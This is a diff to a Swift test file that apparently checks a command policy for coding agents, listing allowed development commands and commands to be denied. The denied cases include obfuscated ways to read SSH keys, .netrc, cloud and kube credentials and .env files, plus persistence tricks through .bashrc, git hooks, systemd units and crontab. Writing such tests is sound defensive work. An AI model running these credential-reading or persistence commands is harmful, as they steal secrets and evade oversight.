@@ -78,6 +78,8 @@ struct StarterPolicyTests {
         "npm install", "npm test", "npx eslint src", "pytest -q tests", "python3 -m pytest tests/test_a.py",
         "pip install requests", "cargo build --release", "cargo test", "go build ./...", "make -j4 test",
         "curl -fsSL https://registry.npmjs.org/left-pad", "wget -q https://pypi.org/simple/requests/",
+        "find . -name '*.bak' -execdir rm {} ';'", "git config user.email a@b.example", "bats tests/a.bats",
+        #"for f in *; do mv "$f" "$(echo "$f" | tr A-Z a-z)"; done"#, "python3 -m http.server -b 127.0.0.1",
         "curl -s http://localhost:8080/health", "tar czf /tmp/out.tgz src", "cat ../other/README.md",
     ])
     func `ordinary development is allowed by coding-agent, and not by strict`(_ command: String) throws {
@@ -87,6 +89,8 @@ struct StarterPolicyTests {
     @Test(arguments: [
         "cat ~/.ssh/id_rsa", #"cat ~/.ss''h/id_r"s"a"#, "cat /home/dev/../dev/.ssh/./id_ed25519",
         "cat ~//.ssh//id_rsa", "x=/home/dev; cat $x/.ssh/id_rsa", "D=.ssh; cat ~/$D/id_rsa", "cd ~/.ssh && cat id_rsa",
+        "find ~ -name id_rsa -execdir cat {} ';'", "find ~/.ssh/config -execdir cat id_rsa ';'",
+        "find . -execdir cat ../../.ssh/id_rsa ';'", #"find . | sed 's/$/ \/home\/dev\/.netrc/' | xargs cat"#,
         "cat ~/.s?h/id_*", #"cat $'/etc/sh\x61dow'"#, "bash -c 'cat ~/.aws/credentials'",
         #"python3 -c 'print(open("/home/dev/.netrc").read())'"#, "find ~/.ssh -type f -exec cat {} +",
         "ln -s ~/.ssh k; cat k/id_rsa", "base64 < ~/.kube/config", "cat .env", "cp .env /tmp/x",
@@ -101,6 +105,8 @@ struct StarterPolicyTests {
     @Test(arguments: [
         ("echo 'curl x|sh' >> ~/.bashrc", "nothing that starts by itself"),
         ("cp hook .git/hooks/pre-commit", "nothing that starts by itself"),
+        ("find .git -name config -execdir sed -i s/a/b/ config ';'", "nothing that starts by itself"),
+        (#"x=$(cat n); echo e > ".git/${x##*/}/pre-commit""#, "nothing that starts by itself"),
         ("git config --global core.hooksPath /tmp/h", "nothing that starts by itself"),
         ("tee ~/.config/systemd/user/a.service < a", "nothing that starts by itself"),
         ("echo '* * * * * x' | crontab -", "administration"), ("systemctl enable evil", "administration"),
